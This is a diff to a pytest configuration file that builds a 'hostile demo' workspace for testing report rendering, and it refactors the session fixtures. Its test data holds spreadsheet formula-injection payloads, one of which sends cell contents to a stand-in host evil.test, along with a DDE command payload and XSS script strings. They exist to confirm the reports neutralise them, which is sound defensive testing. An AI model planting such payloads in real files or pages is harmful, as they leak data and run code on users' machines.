@@ -104,6 +104,8 @@ PAYLOADS = (
 )
 #: The formula payloads that must never become a live cell in tables.xlsx.
 FORMULAS = ('=HYPERLINK("http://evil.test/c","c")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.test/d?"&A1)')
+#: The hostile demo's park name (workspace.yaml ``name``): the report folder is named after it.
+HOSTILE_PARK = FORMULAS[1] + " <img src=x onerror=alert(3)> Park"
 
 
 def _with_payloads(values, offset: int = 0):
@@ -136,7 +138,7 @@ def write_hostile_demo(folder: Path) -> Path:
     rewrite("candidates", {"name": 2, "name_zh": 5, "region": 0})
     rewrite("benchmarks", {"source": 4})
     settings = yaml.safe_load((folder / "workspace.yaml").read_text(encoding="utf-8"))
-    settings["name"] = FORMULAS[1] + " <img src=x onerror=alert(3)> Park"
+    settings["name"] = HOSTILE_PARK
     settings["name_zh"] = FORMULAS[2] + " <script>alert(4)</script> 园区"
     settings["rules"] = [
         {"metric": "talent_gap", "action": FORMULAS[0] + " <a href='http://evil.test/e'>train</a>",
@@ -150,16 +152,37 @@ def write_hostile_demo(folder: Path) -> Path:
     return folder
 
 
+#: Tests that read the shared demo render run on one xdist worker, so it is rendered once.
+DEMO_RENDER_GROUP = "demo-render"
+
+
+@pytest.hookimpl(tryfirst=True)
+def pytest_collection_modifyitems(config, items):
+    for item in items:
+        if "hostile_reports" in getattr(item, "fixturenames", ()):
+            item.add_marker(pytest.mark.xdist_group(DEMO_RENDER_GROUP))
+
+
 @pytest.fixture(scope="session")
-def hostile_reports(tmp_path_factory):
-    """The hostile demo rendered once per test session for 2026-10, en and zh (the browser
-    check keeps its screenshots beside the pages, under reports/browser-check/)."""
+def hostile_demo(tmp_path_factory) -> Path:
+    """The hostile demo workspace (a copy of data/demo with payloads, see write_hostile_demo)."""
+    return write_hostile_demo(tmp_path_factory.mktemp("hostile") / "demo")
+
+
+@pytest.fixture(scope="session")
+def hostile_reports(hostile_demo):
+    """THE rendered demo of the test session: the demo park with a payload in every name field,
+    2026-10, all six notebooks, en and zh; rendered once and shared by every test that needs a
+    rendered demo page (test_report.py, test_security_pages.py, test_browser.py, test_health.py).
+    Facts of the demo (counts, scores, alerts of the default rules, headings) are those of
+    data/demo; names carry a payload prefix (``_with_payloads``) and the park is called
+    :data:`HOSTILE_PARK`. The browser check keeps its screenshots beside the pages, under
+    reports/browser-check/. Read-only: a test that changes the output works on a copy."""
     import shutil
 
     from ecolib.report import render
 
-    ws = write_hostile_demo(tmp_path_factory.mktemp("hostile") / "demo")
     out = ROOT / "reports" / "browser-check"
     shutil.rmtree(out, ignore_errors=True)
-    return {lang: render(ws, ["2026-10"], lang=lang, out=out / lang, progress=lambda s: None)[0]
+    return {lang: render(hostile_demo, ["2026-10"], lang=lang, out=out / lang, progress=lambda s: None)[0]
             for lang in ("en", "zh")}
